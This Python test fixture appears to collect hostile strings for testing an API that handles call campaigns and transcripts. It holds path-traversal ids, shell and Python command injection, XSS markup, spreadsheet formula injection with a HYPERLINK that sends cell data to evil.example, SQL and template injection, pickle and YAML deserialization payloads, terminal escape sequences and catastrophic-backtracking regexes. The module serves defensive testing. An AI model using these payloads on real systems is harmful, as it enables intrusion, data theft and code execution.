"""What somebody who means harm would write into ids, names and transcripts: one list for all tests."""

from __future__ import annotations

import json
from typing import Any, Final

IDS: Final = (
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "..",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "\\\\server\\share",
    "c:evil",
    "CON",
    "nul.json",
    "COM1",
    "a\x00b",
    "a\nb",
    "a\r\nX-Evil: 1",
    "-rf",
    "--help",
    "~root",
    "$HOME",
    "$(touch owned)",
    "`touch owned`",
    "%2e%2e%2f",
    "a" * 300,
    "é" * 300,
    "campaign_id=1/calls",
    "__HIVE_DEFAULT_PARTITION__",
    "\u0430dmin",  # a Cyrillic letter that looks like a Latin one
    "e\u0301",  # the same letter as \u00e9 to the eye, and another text
    "\u00e9",
    "ad\u200bmin",
    "\u202egpj.exe",
    " leading",
    "trailing.",
)
"""Ids, no two the same, most of them no file name, or another one than they seem."""

MARKUP: Final = (
    "<script>owned()</script>",
    "</td></tr></table><script>owned()</script>",
    '"><img src=x onerror=owned()>',
    "' onmouseover='owned()",
    "<svg onload=owned()><style>*{display:none}</style></svg>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<a href='javascript:owned()'>free</a>",
    "<iframe src='https://evil.example/'></iframe>",
    "<!-- --><![CDATA[<b>]]>&lt;b&gt;&amp;#60;",
    "[free](javascript:owned()) ![x](https://evil.example/x.png) **bold** `code`",
    "$\\href{javascript:owned()}{x}$ $$\\def\\a{\\a\\a}\\a$$",
)
TERMINAL: Final = (
    "\x1b[2J\x1b[H\x1b[31mred",
    "\x1b]0;a title\x07",
    "\x1b]8;;https://evil.example\x1b\\free\x1b]8;;\x1b\\",
    "\x1b]52;c;b3duZWQ=\x07",
    "\x1bP+q544e\x1b\\",
    "\x9b31mred\x9d0;title\x9c",
    "over\rwritten",
    "back\x08\x08\x08\x08gone",
    "\x07\x00\x7f",
    "safe\u202egpj.exe\u202c \u2066\u2067x\u2069",
    "zero\u200bwidth\ufeff\u2060\U000e0041",
    "line\u2028and\u2029paragraph",
    "[bold red]rich markup[/] :skull:",
)
FORMULAS: Final = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"free")',
    '=WEBSERVICE("https://evil.example/")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\x00=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "'=1+1",
    "''=1+1",
    '",=1+1,"',
    "x\n=1+1",
    ";=1+1",
)
CODE: Final = (
    "'; DROP TABLE calls; --",
    "x' OR '1'='1",
    "\"; COPY (SELECT 1) TO 'owned.csv'; --",
    "read_text('/etc/passwd')",
    "`calls` /* */ LATERAL VIEW explode(array(1)) --",
    "{{ 7*7 }}{% for x in [].__class__.__mro__ %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%s%s%s%n %(key)s {0.__class__} {key!r:>99999999}",
    "\\1\\g<0>(?P<x>a)\\Z",
    "__import__('os').system('touch owned')",
    "$(touch owned) `touch owned` | touch owned; touch owned",
    "!!python/object/apply:os.system ['touch owned']",
    "\x80\x04\x95cos\nsystem\n(S'touch owned'\ntR.",
)
TEXTS: Final = (*MARKUP, *TERMINAL, *FORMULAS, *CODE, *IDS)
"""All of it: whatever can be in an id can be in a name or a transcript too."""

EXPLODING: Final = (
    r"(a+)+$",
    r"(a|aa)+$",
    r"(a|b|ab)*c",
    r"(.*a){20}$",
    r"(x+x+)+y",
    r"^(([a-z])+.)+[A-Z]([a-z])+$",
    r"(?:a?){30}a{30}$",
)
"""Patterns that take a backtracking engine years for a few dozen letters."""


def campaign(campaign_id: str = "c1", texts: tuple[str, ...] = TEXTS) -> dict[str, Any]:
    """Give a campaign in which every text is hostile; each of them is a name, an id, a result and a turn."""
    return {
        "campaignId": campaign_id,
        "name": texts[0],
        "agentId": texts[-1],
        "listId": texts[len(texts) // 2],
        "status": texts[1],
        texts[2]: texts[3],
        "calls": [
            {
                "callId": f"{text}#{place}",
                "direction": "outbound",
                "from": text,
                "to": text,
                "completed": True,
                "result": text,
                "createdAt": "2026-05-04T12:00:00Z",
                "callLength": 42.5,
                "recordingUrl": text,
                text: text,
                "transcripts": [
                    {"role": "assistant", "content": text},
                    {"role": text, "content": f"well, {text}"},
                ],
            }
            for place, text in enumerate(texts)
        ],
    }


def body(campaign_id: str = "c1", texts: tuple[str, ...] = TEXTS) -> bytes:
    """Give the same as the API would send it."""
    return json.dumps(campaign(campaign_id, texts)).encode()
